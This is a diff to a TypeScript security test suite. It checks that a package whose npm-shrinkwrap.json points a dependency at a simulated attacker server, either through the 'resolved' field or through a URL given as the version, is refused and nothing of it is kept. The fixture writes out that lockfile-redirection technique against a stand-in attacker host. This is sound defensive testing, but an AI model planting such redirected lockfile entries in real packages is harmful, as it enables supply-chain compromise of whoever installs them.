@@ -761,74 +761,90 @@ describe('skill environments', () => {
       id: 'env-registry-shrinkwrap',
       category: 'install',
       title:
-        'a package of the operator’s registry shipping an npm-shrinkwrap.json whose entries resolve at another server: the environment is refused, nothing of it kept',
+        'a package of the operator’s registry shipping an npm-shrinkwrap.json whose entries resolve at another server (or name a URL as version): the environment is refused, nothing of it kept',
     },
     async (ctx) => {
-      const w = await world(ctx);
-      const src = join(w.root, 'wrapped-src');
-      mkdirSync(src);
-      writeFileSync(
-        join(src, 'package.json'),
-        JSON.stringify({ name: 'wrapped', version: '1.0.0', dependencies: { tiny: '1.0.0' } }),
-      );
-      writeFileSync(
-        join(src, 'npm-shrinkwrap.json'),
-        JSON.stringify({
-          name: 'wrapped',
-          version: '1.0.0',
-          lockfileVersion: 3,
-          requires: true,
-          packages: {
-            '': { name: 'wrapped', version: '1.0.0', dependencies: { tiny: '1.0.0' } },
-            'node_modules/tiny': {
-              version: '1.0.0',
-              resolved: `${w.attacker.url}attacker/tiny-1.0.0.tgz`,
-              integrity: w.integrity,
-            },
-          },
-        }),
-      );
-      writeFileSync(join(src, 'index.js'), "module.exports = require('tiny');\n");
-      const wrapped = readFileSync(npmPack(src, join(w.root, 'wrapped-packed')));
-      const files: Record<string, Buffer> = {};
-      const registry = await httpListener(files);
-      ctx.defer(() => registry.close());
-      const version = (name: string, tgz: Buffer, more: Record<string, unknown>) =>
-        Buffer.from(
+      const notes: string[] = [];
+      let kept = false;
+      let fetched = 0;
+      for (const how of ['resolved', 'version'] as const) {
+        const w = await world(ctx);
+        const src = join(w.root, 'wrapped-src');
+        mkdirSync(src);
+        writeFileSync(
+          join(src, 'package.json'),
+          JSON.stringify({ name: 'wrapped', version: '1.0.0', dependencies: { tiny: '1.0.0' } }),
+        );
+        writeFileSync(
+          join(src, 'npm-shrinkwrap.json'),
           JSON.stringify({
-            name,
-            'dist-tags': { latest: '1.0.0' },
-            versions: {
-              '1.0.0': {
-                name,
-                version: '1.0.0',
-                dist: { tarball: `${registry.url}${name}/-/${name}-1.0.0.tgz`, integrity: integrityOf(tgz) },
-                ...more,
-              },
+            name: 'wrapped',
+            version: '1.0.0',
+            lockfileVersion: 3,
+            requires: true,
+            packages: {
+              '': { name: 'wrapped', version: '1.0.0', dependencies: { tiny: '1.0.0' } },
+              'node_modules/tiny':
+                how === 'resolved'
+                  ? {
+                      version: '1.0.0',
+                      resolved: `${w.attacker.url}attacker/tiny-1.0.0.tgz`,
+                      integrity: w.integrity,
+                    }
+                  : { version: `${w.attacker.url}attacker/tiny-1.0.0.tgz` },
             },
           }),
         );
-      Object.assign(files, {
-        '/wrapped': version('wrapped', wrapped, { dependencies: { tiny: '1.0.0' }, _hasShrinkwrap: true }),
-        '/wrapped/-/wrapped-1.0.0.tgz': wrapped,
-        '/tiny': version('tiny', w.tarball, {}),
-        '/tiny/-/tiny-1.0.0.tgz': w.tarball,
-      });
-      const rw = { ...w, registry, env: { ...w.env, npm_config_registry: registry.url } };
-      nodeSkill(w.skills, 'wrapped-user', {
-        'package.json': JSON.stringify({ name: 's', private: true, dependencies: { wrapped: '1.0.0' } }),
-      });
-      const r = await depsInstall(rw, 'wrapped-user');
-      deniedWhenForced(r);
-      const built = readdirSync(w.envsDir).filter((n) => /^[0-9a-f]{64}$/.test(n));
-      const note = `exit ${r.code}; environments built: ${built.length}; attacker: ${w.attacker.requests.length} requests; ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 200)}`;
-      const refused =
-        r.code !== 0 && built.length === 0 && /node_modules\/wrapped\/node_modules\/tiny.*from/.test(r.out);
-      if (!refused) return breach(note);
+        writeFileSync(join(src, 'index.js'), "module.exports = require('tiny');\n");
+        const wrapped = readFileSync(npmPack(src, join(w.root, 'wrapped-packed')));
+        const files: Record<string, Buffer> = {};
+        const registry = await httpListener(files);
+        ctx.defer(() => registry.close());
+        const version = (name: string, tgz: Buffer, more: Record<string, unknown>) =>
+          Buffer.from(
+            JSON.stringify({
+              name,
+              'dist-tags': { latest: '1.0.0' },
+              versions: {
+                '1.0.0': {
+                  name,
+                  version: '1.0.0',
+                  dist: {
+                    tarball: `${registry.url}${name}/-/${name}-1.0.0.tgz`,
+                    integrity: integrityOf(tgz),
+                  },
+                  ...more,
+                },
+              },
+            }),
+          );
+        Object.assign(files, {
+          '/wrapped': version('wrapped', wrapped, { dependencies: { tiny: '1.0.0' }, _hasShrinkwrap: true }),
+          '/wrapped/-/wrapped-1.0.0.tgz': wrapped,
+          '/tiny': version('tiny', w.tarball, {}),
+          '/tiny/-/tiny-1.0.0.tgz': w.tarball,
+        });
+        const rw = { ...w, registry, env: { ...w.env, npm_config_registry: registry.url } };
+        nodeSkill(w.skills, 'wrapped-user', {
+          'package.json': JSON.stringify({ name: 's', private: true, dependencies: { wrapped: '1.0.0' } }),
+        });
+        const r = await depsInstall(rw, 'wrapped-user');
+        deniedWhenForced(r);
+        const built = readdirSync(w.envsDir).filter((n) => /^[0-9a-f]{64}$/.test(n));
+        const note = `exit ${r.code}; environments built: ${built.length}; attacker: ${w.attacker.requests.length} requests; ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 200)}`;
+        const refused =
+          r.code !== 0 &&
+          built.length === 0 &&
+          /node_modules\/wrapped\/node_modules\/tiny.*(from|at)/.test(r.out);
+        kept ||= !refused;
+        fetched += w.attacker.requests.length;
+        notes.push(`${how}: ${note}`);
+      }
+      if (kept) return breach(notes.join(' || '));
       // npm fetches what the shrinkwrap names before the server can see it; the environment is refused afterwards.
-      return w.attacker.requests.length === 0
-        ? blockedIf(true, note)
-        : bestEffort(`nothing from the other server is kept, but npm fetched from it: ${note}`);
+      return fetched === 0
+        ? blockedIf(true, notes.join(' || '))
+        : bestEffort(`nothing from the other server is kept, but npm fetched from it: ${notes.join(' || ')}`);
     },
   );
 });
